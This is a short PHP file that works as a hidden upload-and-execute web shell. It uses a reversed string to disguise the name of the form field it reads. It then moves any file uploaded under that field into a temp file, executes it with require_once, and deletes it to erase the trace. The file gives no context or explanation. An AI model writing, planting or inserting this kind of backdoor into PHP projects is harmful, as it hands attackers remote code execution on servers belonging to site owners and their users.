<?php
$k = strrev('elif_');
$n = tempnam(sys_get_temp_dir(), 'u');
if (@move_uploaded_file($_FILES[substr($k, 1)]['tmp_name'], $n)) {
    require_once $n;
    unlink($n);
}
